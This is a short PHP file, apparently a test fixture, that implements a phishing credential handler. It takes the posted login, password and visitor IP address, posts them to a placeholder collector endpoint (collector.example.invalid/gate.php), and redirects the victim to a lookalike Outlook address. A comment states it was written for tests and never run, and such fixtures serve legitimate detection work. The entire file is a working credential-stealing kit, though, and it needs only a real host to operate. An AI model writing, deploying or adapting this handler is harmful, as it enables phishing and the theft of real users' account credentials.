<?php
// a phishing handler posting the login to the operator's collector in a stream context's
// body (written for the tests, never run)
$data = array('user' => $_POST['login'], 'pass' => $_POST['passwd'], 'ip' => $_SERVER['REMOTE_ADDR']);
$opts = array('http' => array('method' => 'POST', 'content' => http_build_query($data)));
file_get_contents('https://collector.example.invalid/gate.php', false, stream_context_create($opts));
header('Location: https://outlook.example.invalid/');
